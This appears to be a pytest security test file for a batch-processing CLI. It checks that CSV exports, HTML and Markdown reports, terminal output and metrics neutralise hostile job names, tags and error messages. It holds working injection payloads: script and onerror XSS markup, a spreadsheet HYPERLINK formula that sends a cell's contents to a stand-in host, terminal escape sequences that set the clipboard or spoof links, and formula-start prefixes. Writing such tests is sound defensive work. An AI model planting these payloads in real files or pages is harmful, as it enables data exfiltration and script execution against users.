"""What is written for spreadsheets, browsers, chats and collectors: they obey nothing in it.

Names of lines, models, jobs, tags and columns are strangers'; so are answers and errors.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from batch.notices.prometheus import page as metrics
from batch.notices.texts import document
from tests.notices.ends import ended
from tests.raw_server import Act, http
from tests.security.desk import CHAT, Desk, serving
from tests.security.test_keys import chat

READ = Act.READ
MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)></title></style>-->"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"a")'
# Window titles, the clipboard, links that say another address, colors, lines written over.
TERMINAL = "a\x1b]0;t\x07\x1b]8;;http://x.example\x1b\\b\x1b]52;c;eA==\x07\x1b[31m\rc\x08\x9b2J\u202ed\u2066"
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "|cmd", "＝1", "%0A=1"]  # noqa: RUF001
HOSTILE = [MARKUP, FORMULA, TERMINAL, *STARTS]


class Elements(HTMLParser):
    """Notes what a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def elements(page: bytes) -> Elements:
    read = Elements()
    read.feed(page.decode())
    return read


@pytest.fixture
def hostile(desk: Desk) -> Desk:
    """A run whose lines, models, columns, tags, answers and errors are all hostile."""
    lines = [
        {"custom_id": f"{n} {one}" if n else one, "url": CHAT, one: one, "label": one,
         "body": {"model": one, "messages": [{"role": "user", "content": one}]}}
        for n, one in enumerate(HOSTILE)
    ]  # fmt: skip
    (desk.folder / "in.jsonl").write_text("".join(f"{json.dumps(one)}\n" for one in lines))
    failed = json.dumps({"error": {"message": f"{MARKUP}{TERMINAL}", "code": "x"}}).encode()
    scripts = [(READ, http(chat(one, model=one))) for one in HOSTILE[:-1]]
    with serving(*scripts, (READ, http(failed, status="400 Bad"))) as gateway:
        flags = ("--base-url", gateway.url, "-c", 1, "--tag", f"team={MARKUP}", "--name", FORMULA)
        left = desk.call("run", "in.jsonl", "-o", "out.jsonl", *flags)
    assert left.code == 3, left.said
    return desk


def cells(data: bytes) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


def test_no_cell_is_a_formula_whether_head_name_or_answer(hostile: Desk) -> None:
    made = [
        hostile.call("export", "out.jsonl", "-o", "table.csv"),
        hostile.call("export", "out.jsonl", "-o", "errors.csv", "--errors"),
        hostile.call("report", "out.jsonl", "--by", "model,job,tag:team", "-o", "costs.csv",
                     "--format", "csv"),
    ]  # fmt: skip

    files = made[-1].files
    written = [name for name in ("table.csv", "errors.csv", "costs.csv") if name in files]
    assert "table.csv" in written
    assert "costs.csv" in written
    for name in written:
        found = cells(files[name])
        assert any("HYPERLINK" in cell for cell in found)
        assert not [(name, cell) for cell in found if re.match(r"\s*[=+\-@|＝]|[\t\r\n]", cell)]  # noqa: RUF001


def test_a_browser_finds_text_where_names_are(hostile: Desk) -> None:
    costs = hostile.call("report", "out.jsonl", "--by", "model", "--html", "costs.html")

    assert costs.code == 0, costs.said
    page = costs.files["costs.html"]
    read = elements(page)
    assert read.tags.isdisjoint({"script", "img", "iframe", "object", "embed", "link", "base"})
    assert not [name for name, _ in read.attributes if name.startswith("on")]
    assert b"default-src 'none'" in page
    assert b"\x1b" not in page
    assert "\u202e" not in page.decode()


def test_markdown_has_no_markup_of_others(hostile: Desk) -> None:
    told = hostile.call("report", "out.jsonl", "--by", "model", "--format", "md", "-o", "costs.md")

    assert told.code == 0, told.said
    text = told.files["costs.md"].decode()
    assert "<" not in text.replace("&lt;", "")
    widths = {len(re.findall(r"(?<!\\)\|", row)) for row in text.splitlines() if row[:1] == "|"}
    assert len(widths) == 1


def test_a_terminal_obeys_nothing_that_a_name_or_an_error_says(hostile: Desk) -> None:
    calls = (
        ("status", "out.jsonl"),
        ("show", "out.jsonl", "--full"),
        ("show", "out.jsonl", "--errors", "--full"),
        ("report", "out.jsonl", "--by", "model,job"),
        ("export", "out.jsonl", "-o", f"{FORMULA}.csv".replace("/", "")),
    )

    said = "".join(hostile.call(*one).said for one in calls)

    assert "HYPERLINK" in said
    # Of lines that are not on a terminal the breaks of answers stay.
    assert {char for char in said if not char.isprintable()} <= set("\n\t")


@pytest.mark.parametrize("name", HOSTILE)
def test_chats_and_collectors_get_names_as_texts(name: str) -> None:
    told = ended(3, job=name)

    message = json.loads(json.dumps(document(told)))
    lines = metrics("", told).splitlines()

    assert message["job"] == name
    assert all(re.fullmatch(r'#.*|wbatch_\w+\{job="(\\.|[^"\\\n])*".*\} \S+', one) for one in lines)
    assert metrics(metrics("", told), told) == metrics("", told)
